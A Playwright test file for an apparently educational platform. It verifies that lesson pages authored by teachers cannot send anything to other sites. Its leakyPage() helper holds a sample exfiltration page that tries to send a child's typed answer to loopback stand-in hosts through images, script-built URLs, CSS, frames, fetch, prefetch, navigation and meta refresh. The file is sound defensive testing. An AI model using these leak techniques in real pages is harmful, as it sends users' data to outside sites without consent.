import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer as createHttpServer, type Server } from "node:http";
import { createServer as createHttpsServer } from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { API, apiPath, ROUTES } from "@ganit/contracts";
import type { APIRequestContext } from "@playwright/test";
import { expect, loginThroughPage, test, uniqueSuffix } from "../fixtures.ts";
import { sessionToken } from "../harness/pages.ts";
import { SUPERADMIN } from "../harness/test-env.ts";

/**
 * A lesson page reaches no network (docs/adr/0211-lesson-pages-reach-no-network.md): whatever its
 * author writes, nothing a child types in it, and no sign that the child opened it, leaves for
 * another site. Two listeners on loopback stand in for that site, one over HTTPS (a real site's
 * scheme; its certificate is made here, and this file's browser accepts it) and one over plain HTTP.
 * The page tries every way out: a picture, a picture made by script with an answer in its URL, a CSS
 * background, a frame, a video, a prefetch, fetch, and navigating itself and the top page.
 */
type Listener = { origin: string; hits: string[]; server: Server };

let certDir: string;
const listeners: Listener[] = [];

async function listen(server: Server, scheme: "http" | "https"): Promise<Listener> {
  const hits: string[] = [];
  server.on("request", (req, res) => {
    hits.push(req.url ?? "");
    res.writeHead(200, { "content-type": "text/html" }).end("<h1>Another site</h1>");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `${scheme}://127.0.0.1:${port}`, hits, server };
}

test.use({ ignoreHTTPSErrors: true });

test.beforeAll(async () => {
  certDir = mkdtempSync(path.join(tmpdir(), "ganit-listener-"));
  const key = path.join(certDir, "key.pem");
  const cert = path.join(certDir, "cert.pem");
  execFileSync("openssl", [
    ...["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"],
    ...["-keyout", key, "-out", cert, "-days", "1", "-subj", "/CN=127.0.0.1"],
    ...["-addext", "subjectAltName=IP:127.0.0.1"],
  ]);
  const https = createHttpsServer({ key: readFileSync(key), cert: readFileSync(cert) });
  listeners.push(await listen(https, "https"), await listen(createHttpServer(), "http"));
});

test.afterAll(async () => {
  for (const { server } of listeners) {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
  rmSync(certDir, { recursive: true, force: true });
});

const NAVIGATE_AFTER_MS = 1500;

/** No request reached another site, and no frame of the tab shows one. */
function expectNothingLeft(page: import("@playwright/test").Page) {
  expect(allHits()).toEqual([]);
  const origins = listeners.map(({ origin }) => origin);
  const shown = page.frames().map((frame) => frame.url());
  expect(shown.filter((url) => origins.some((origin) => url.startsWith(origin)))).toEqual([]);
}

const leakyPage = () => {
  const out = (name: string) => listeners.map(({ origin }) => `${origin}/${name}`);
  const each = (name: string, html: (url: string) => string) => out(name).map(html).join("\n");
  return `<!doctype html><html><head><title>Leaky lesson</title>
${each("prefetch", (url) => `<link rel="prefetch" href="${url}"><link rel="preconnect" href="${url}">`)}
<style>${out("css-background")
    .map((url, i) => `.bg${i}{background:url(${url})}`)
    .join("")}</style></head><body>
<h1>Leaky lesson</h1>
${out("css-background")
  .map((_url, i) => `<div class="bg${i}">background ${i}</div>`)
  .join("")}
${each("img", (url) => `<img src="${url}" alt="">`)}
${each("iframe", (url) => `<iframe src="${url}" title="another site"></iframe>`)}
${each("video", (url) => `<video src="${url}" autoplay muted></video>`)}
<input id="answer" value="42">
<script>
const NAVIGATE_AFTER_MS = ${NAVIGATE_AFTER_MS};
const outs = ${JSON.stringify(listeners.map(({ origin }) => origin))};
for (const origin of outs) {
  new Image().src = origin + "/script-image?typed=" + document.getElementById("answer").value;
  fetch(origin + "/fetch").catch(() => {});
}
// Later, so the test first sees the page running.
setTimeout(() => {
  try { top.location.href = outs[0] + "/navigate-top"; } catch (e) {}
  location.href = outs[0] + "/navigate-self";
}, NAVIGATE_AFTER_MS);
</script></body></html>`;
};

async function savePage(request: APIRequestContext, token: string, content: string) {
  return request.post(API.contentCreate, {
    headers: { Authorization: token },
    data: {
      coursename: "Sandbox Proofs",
      classnumber: 3,
      topicname: "Boundaries",
      subtopicname: "Network",
      contentname: `Leaky ${uniqueSuffix()}`,
      content,
    },
  });
}

const allHits = () => listeners.flatMap(({ origin, hits }) => hits.map((hit) => origin + hit));

let token = "";
test.beforeEach(async ({ page }) => {
  for (const listener of listeners) listener.hits.length = 0;
  await loginThroughPage(page, SUPERADMIN.username, SUPERADMIN.password);
  await expect(page).toHaveURL(/\/superadmindashboard$/);
  token = await sessionToken(page);
});

test("framed in the lesson screen, a page's pictures, frames, prefetches, fetches and navigations reach no other site", async ({
  page,
  request,
}) => {
  const saved = await savePage(request, token, leakyPage());
  expect(saved.status()).toBe(201);
  const { _id: id } = (await saved.json()) as { _id: string };

  await page.goto(`${ROUTES.viewResource}/${id}`);
  const frame = page.frameLocator('iframe[title="Lesson page"]');
  await expect(frame.getByRole("heading", { name: "Leaky lesson" })).toBeVisible();
  // Long enough for every load, the fetch and the timed navigations to have been tried.
  await page.waitForTimeout(NAVIGATE_AFTER_MS + 1500);
  expectNothingLeft(page);
});

test("opened directly in a tab, the same page cannot send the tab to another site, nor reach one", async ({
  page,
  request,
}) => {
  const saved = await savePage(request, token, leakyPage());
  const { _id: id } = (await saved.json()) as { _id: string };

  await page.goto(apiPath.lessonPage(id));
  await expect(page.frameLocator("iframe").getByRole("heading", { name: "Leaky lesson" })).toBeVisible();
  await page.waitForTimeout(NAVIGATE_AFTER_MS + 1500);
  expectNothingLeft(page);
  expect(page.url()).toMatch(new RegExp(`${apiPath.lessonPage(id)}$`));
});

test("a page that would replace itself with another site (meta refresh) is refused when it is saved", async ({
  request,
}) => {
  const target = `${listeners[0]?.origin}/meta-refresh`;
  const saved = await savePage(
    request,
    token,
    `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${target}"></head><body><h1>Gone</h1></body></html>`,
  );
  expect(saved.status()).toBe(400);
  expect(await saved.json()).toMatchObject({ key: "lessonPageNavigates" });
  expect(allHits()).toEqual([]);
});
